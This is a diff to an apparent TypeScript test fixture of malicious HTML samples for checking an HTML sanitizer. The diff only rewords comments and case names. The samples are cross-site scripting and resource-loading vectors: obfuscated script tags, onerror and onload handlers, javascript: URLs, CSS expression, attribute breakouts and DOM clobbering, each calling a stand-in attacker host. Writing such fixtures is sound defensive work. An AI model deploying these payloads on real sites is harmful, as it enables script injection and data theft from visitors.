@@ -2,7 +2,7 @@ import { HOSTILE_ADDRESSES } from './hostile-addresses.fixture.ts';
 import { HOSTILE_PARSING } from './hostile-parsing.fixture.ts';
 import { HOSTILE_STYLES } from './hostile-styles.fixture.ts';
 
-/** HTML that was made to do something to who reads it. `EVIL` is somebody else's host. Each has the word Readable in it, which stays. */
+/** Malicious HTML. `EVIL` stands for the attacker's host. Each example contains the word Readable, which must survive. */
 export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
   [
     'a script',
@@ -10,7 +10,7 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
   ],
   ['a script in pieces', '<scr<script>ipt>location="EVIL/a"</scr</script>ipt><p>Readable'],
   [
-    'a script of a module, and what is imported ahead',
+    'a module script, an import map and speculation rules',
     '<script type=module>import "EVIL/m"</script><script type=importmap>{"imports":{"a":"EVIL/i"}}</script><script type=speculationrules>{"prefetch":[{"urls":["EVIL/sr"]}]}</script><p>Readable',
   ],
   [
@@ -22,11 +22,11 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
     '<img/src="x"/onerror=location="EVIL/1"><img src=x\nonerror\n=\nlocation="EVIL/2"><img src=x onerror\x0b=location="EVIL/3"><img src="x"onerror=location="EVIL/4"><p>Readable',
   ],
   [
-    'addresses of scripts',
+    'links with script addresses',
     '<a href="javascript:location=\'EVIL/j\'">Readable</a><a href="java&#9;script:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a><a href=" JaVaScRiPt&colon;alert(1)">x</a><a href="vbscript:x">x</a><a href="data:text/html,<script>location=\'EVIL\'</script>">x</a><a href="blob:EVIL/b">x</a><a href="filesystem:EVIL/b">x</a><a href="view-source:EVIL/v">x</a>',
   ],
   [
-    'images of scripts',
+    'images with script addresses',
     '<img src="javascript:location=\'EVIL\'"><img src="data:image/svg+xml,<svg onload=location=\'EVIL\' xmlns=\'http://www.w3.org/2000/svg\'/>"><img src="data:text/html,<script>1</script>"><input type=image src=javascript:1><p>Readable',
   ],
   [
@@ -34,7 +34,7 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
     '<svg onload="location=\'EVIL/svg\'"><script>location="EVIL/2"</script><animate onbegin=location=\'EVIL/3\' attributeName=x></svg><p>Readable',
   ],
   [
-    'what SVG loads',
+    'resources that SVG loads',
     '<svg><image href="EVIL/i"/><use href="EVIL/u#x"/><feImage href="EVIL/fe"/><style>@import "EVIL/c";</style><foreignObject><img src="EVIL/f"></foreignObject></svg><p>Readable',
   ],
   [
@@ -107,7 +107,7 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
     '<link rel=stylesheet href="EVIL/l.css"><style>@import "EVIL/i.css";@import url(EVIL/i2.css);@font-face{font-family:x;src:url(EVIL/f.woff)}p{font-family:x}</style><p>Readable',
   ],
   [
-    'what is fetched ahead',
+    'resources that are prefetched',
     '<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL"><link rel=prefetch href="EVIL/p"><link rel=prerender href=EVIL/pr><link rel=preload as=image href="EVIL/pl"><link rel=modulepreload href=EVIL/mp><link rel=icon href=EVIL/ic><link rel=manifest href=EVIL/ma><a href="EVIL/l" ping="EVIL/ping" attributionsrc="EVIL/as">Readable</a>',
   ],
   [
@@ -155,19 +155,19 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
     '<p style="width:expression(location=\'EVIL\');behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/x.xml#a);background:url(javascript:1)">Readable</p><style>p{width:e/**/xpression(1);be\\68avior:url(EVIL/h)}</style>',
   ],
   [
-    'what covers the page',
+    'boxes that cover the page',
     '<div style="position:fixed;inset:0;z-index:9999;background:white"><a href="EVIL/over">Readable</a></div><div style="position:absolute;top:0;left:0;width:100vw;height:100vh"></div><style>p{po\\73ition:fixed}div{position:/**/sticky}body{*position:absolute}</style>',
   ],
   [
-    'what breaks out of attributes',
+    'values that break out of attributes',
     '<p title=\'"><img src="EVIL/q">\' style="x:&quot;&gt;&lt;img src=EVIL/q2&gt;">Readable</p><p title="&#34;&#62;<script>1</script>">x</p><p id="&quot; onclick=&quot;location=\'EVIL\'">x</p><img alt="`><img src=EVIL/x onerror=1>">',
   ],
   [
-    'what breaks out of a style',
+    'values that break out of a style',
     '<style><@import x;/style><img src="EVIL/st" onerror=1></style><style>p{content:"</sty" "le><img src=EVIL/st2 onerror=1>"}\\3c/style><img src=EVIL/x></style><p>Readable',
   ],
   [
-    'names that stand in for those of a document',
+    'names that shadow properties of the document',
     '<form name=cookie><input name=body><input name=attributes><input id=parentNode></form><a id=location href="EVIL/cl">x</a><img name=getElementById><p id=documentElement>Readable</p><iframe name=defaultView></iframe><object id=createElement></object>',
   ],
   ['half a tag', '<p>Readable</p><img src="EVIL/half" onerror="location=1"'],
@@ -200,7 +200,7 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
     '<dialog open><p>Readable</p></dialog><button popovertarget=p>x</button><div id=p popover=auto onbeforetoggle=location="EVIL">x</div><a href=# command=show-modal commandfor=d>x</a>',
   ],
   [
-    'much of it',
+    'deep nesting',
     `${'<a href="EVIL/1">'.repeat(200)}Readable${'<div>'.repeat(200)}<img src=EVIL/x>${'</div>'.repeat(200)}`,
   ],
   ...HOSTILE_PARSING,
